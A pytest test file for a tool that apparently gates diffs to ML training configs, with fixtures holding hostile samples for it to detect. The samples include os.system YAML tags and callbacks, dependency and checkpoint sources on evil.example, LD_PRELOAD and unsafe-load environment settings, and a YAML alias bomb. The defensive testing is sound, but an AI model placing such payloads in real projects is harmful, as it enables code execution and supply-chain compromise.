"""The config check on real diffs: each default finding, policy rules, benign edits."""

from __future__ import annotations

import json

import pytest

from traingate.cli import main

from .conftest import POLICY, Repo

BASE_CFG = """\
model:
  name: llama-tiny
  trust_remote_code: false
optimizer:
  lr: 3.0e-4
  betas: [0.9, 0.95]
seed: 1234
batch_size: 32
logging:
  every: 100
"""

RULES = """\
checks:
  semgrep: {enabled: false}
config_rules:
  - name: runs
    paths: ["configs/"]
    approval_keys: ["**.seed", "optimizer.**"]
    approval_group: ml-reviewers
    url_hosts: [huggingface.co, s3.amazonaws.com]
    target_allow: [mylab.models, torch.optim]
    bounds:
      "optimizer.lr": {min: 0.0, max: 0.01}
    forbid:
      - {key: "**.trust_remote_code", value: true}
"""


@pytest.fixture
def crepo(repo: Repo) -> Repo:
    repo.write(".traingate.yaml", POLICY + RULES)
    repo.write("configs/train.yaml", BASE_CFG)
    repo.write(
        "models/config.json",
        json.dumps({"hidden_size": 8, "architectures": ["Tiny"]}, indent=2) + "\n",
    )
    repo.write("requirements.txt", "torch==2.3.0\nnumpy\n")
    repo.write("launch.sh", "#!/bin/sh\ntorchrun train.py\n")
    repo.commit("base")
    repo.branch("feature")
    return repo


def findings(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> list[tuple[str, str, int | None, str]]:
    main(
        [
            "check",
            "--repo",
            str(repo.path),
            "--base",
            "main",
            "--head",
            "feature",
            "--format",
            "json",
        ]
    )
    doc = json.loads(capsys.readouterr().out)
    assert doc["errors"] == []
    return [
        (f["rule_id"], f["path"], f["line"], f["outcome"])
        for f in doc["findings"]
        if f["check"] == "config"
    ]


def test_benign_edits_pass(crepo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    crepo.write(
        "configs/train.yaml",
        BASE_CFG.replace("batch_size: 32", "batch_size: 64") + "  wandb: true\n",
    )
    crepo.commit("bigger batch", who="mallory")
    assert findings(crepo, capsys) == []


def test_listed_keys_need_approval_with_positions(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    crepo.write(
        "configs/train.yaml",
        BASE_CFG.replace("lr: 3.0e-4", "lr: 3.0e-2").replace("seed: 1234", "seed: 7"),
    )
    crepo.commit("tune", who="mallory")
    got = findings(crepo, capsys)
    assert got == [
        ("config-key-change", "configs/train.yaml", 5, "require_approval"),
        ("config-out-of-bounds", "configs/train.yaml", 5, "require_approval"),
        ("config-key-change", "configs/train.yaml", 7, "require_approval"),
    ]


def test_default_findings(crepo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    cfg = BASE_CFG.replace("trust_remote_code: false", "trust_remote_code: true")
    cfg += "callbacks:\n  - _target_: os.system\n    command: curl x\n"
    cfg += "ckpt_url: https://evil.example/ckpt.pt\n"
    cfg += "batch_size: 16\n"  # duplicate key: the later one silently wins
    cfg += "obj: !!python/object/apply:os.system ['id']\n"
    crepo.write("configs/train.yaml", cfg)
    crepo.write(
        "models/config.json",
        json.dumps({"hidden_size": 8, "auto_map": {"AutoModel": "modeling.Tiny"}}, indent=2) + "\n",
    )
    crepo.write(
        "requirements.txt",
        "--extra-index-url https://pypi.evil.example/simple\ntorch==2.3.0\nnumpy @ https://evil.example/numpy.whl\n",
    )
    crepo.write(
        "launch.sh",
        "#!/bin/sh\nexport TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1\nexport LD_PRELOAD=/tmp/x.so\nexport NCCL_TIMEOUT=1\ntorchrun train.py\n",
    )
    crepo.commit("sabotage", who="mallory")
    got = {(r, p, ln) for r, p, ln, _ in findings(crepo, capsys)}
    assert {
        ("config-trust-remote-code", "configs/train.yaml", 3),
        ("config-forbidden", "configs/train.yaml", 3),
        ("config-dangerous-target", "configs/train.yaml", 12),
        ("config-target-not-allowed", "configs/train.yaml", 12),
        ("config-url-host", "configs/train.yaml", 14),
        ("config-duplicate-key", "configs/train.yaml", 15),
        ("config-python-tag", "configs/train.yaml", 16),
        ("config-auto-map", "models/config.json", 4),
        ("config-dependency-source", "requirements.txt", 1),
        ("config-dependency-source", "requirements.txt", 3),
        ("config-risky-env", "launch.sh", 2),
        ("config-risky-env", "launch.sh", 3),
        ("config-risky-env", "launch.sh", 4),
    } <= got


def test_unparseable_config_blocks_with_parser_position(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    crepo.write("configs/train.yaml", BASE_CFG + "broken: [unclosed\n")
    crepo.write("models/config.json", '{"a": 1,}\n')
    crepo.commit("broken", who="mallory")
    got = findings(crepo, capsys)
    assert ("config-parse-error", "models/config.json", 1, "require_approval") in got
    assert any(r == "config-parse-error" and p == "configs/train.yaml" for r, p, _, _ in got)


def test_alias_bomb_is_a_finding_not_a_hang(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = ['a0: &a0 ["x","x","x","x","x","x","x","x","x","x"]']
    for i in range(1, 9):
        lines.append(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]")
    crepo.write("configs/bomb.yaml", "\n".join(lines) + "\n")
    crepo.commit("bomb", who="mallory")
    assert [r for r, p, _, _ in findings(crepo, capsys) if p == "configs/bomb.yaml"] == [
        "config-parse-error"
    ]


# --- application tags (issue #16: 6,386 `!function` tags in lm-eval's task configs) ---

TAGS = """\
task: arc_easy
process_docs: !function utils.process_docs
doc_to_text: !include prompts/arc.txt
a: !exec ["import os; os.system('id')"]
b: !xeval "__import__('os').system('id')"
c: !os.system id
d: !apply:os.system [id]
"""
TAG_DIRECTIVE = "%TAG ! tag:yaml.org,2002:python/\n---\ne: !object/apply:os.system [id]\n"


def test_application_word_tags_warn_and_python_reachable_tags_still_gate(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    """A one-word local tag (`!function`) constructs nothing in any YAML loader:
    a warning. A tag whose rest PyYAML's prefix-registered Python constructors
    can resolve to a callable (`!exec`, `!xeval` under a `!` / `!x` prefix, a
    dotted or `:` name) and the core `!!python/` tags, also through a %TAG
    directive that renames the primary handle, still need approval."""
    crepo.write("configs/tasks.yaml", TAGS)
    crepo.write("configs/doc2.yaml", "--- !!python/object/apply:os.system [id]\n")
    crepo.write("configs/directive.yaml", TAG_DIRECTIVE)
    crepo.commit("feature", who="mallory")
    got = sorted(f for f in findings(crepo, capsys) if f[0] == "config-python-tag")
    assert got == [
        ("config-python-tag", "configs/directive.yaml", 3, "require_approval"),
        ("config-python-tag", "configs/doc2.yaml", 1, "require_approval"),
        ("config-python-tag", "configs/tasks.yaml", 2, "warn"),
        ("config-python-tag", "configs/tasks.yaml", 3, "warn"),
        ("config-python-tag", "configs/tasks.yaml", 4, "require_approval"),
        ("config-python-tag", "configs/tasks.yaml", 5, "require_approval"),
        ("config-python-tag", "configs/tasks.yaml", 6, "require_approval"),
        ("config-python-tag", "configs/tasks.yaml", 7, "require_approval"),
    ]


DUP_BASE = "task: tiny\nnum_fewshot: 0\nsplit: test\nnum_fewshot: 5\nlimit: 10\n"


@pytest.mark.parametrize(
    ("head", "want"),
    [
        # an unrelated value changed: the base's duplicate is not the change's
        (DUP_BASE.replace("limit: 10", "limit: 11"), []),
        # the shadowed occurrence changed: a first-wins loader now reads 3
        (DUP_BASE.replace("num_fewshot: 0", "num_fewshot: 3"), [2, 4]),
        # the winning one changed
        (DUP_BASE.replace("num_fewshot: 5", "num_fewshot: 6"), [2, 4]),
        # a new duplicate of another key
        (DUP_BASE + "split: train\n", [3, 6]),
    ],
)
def test_duplicate_keys_the_base_already_had_are_not_the_changes(
    crepo: Repo, capsys: pytest.CaptureFixture[str], head: str, want: list[int]
) -> None:
    crepo.checkout("main")
    crepo.write("configs/task.yaml", DUP_BASE)
    crepo.commit("dup base")
    crepo.git("branch", "-f", "feature", "main")
    crepo.checkout("feature")
    crepo.write("configs/task.yaml", head)
    crepo.commit("feature", who="mallory")
    got = [f[2] for f in findings(crepo, capsys) if f[0] == "config-duplicate-key"]
    assert got == want
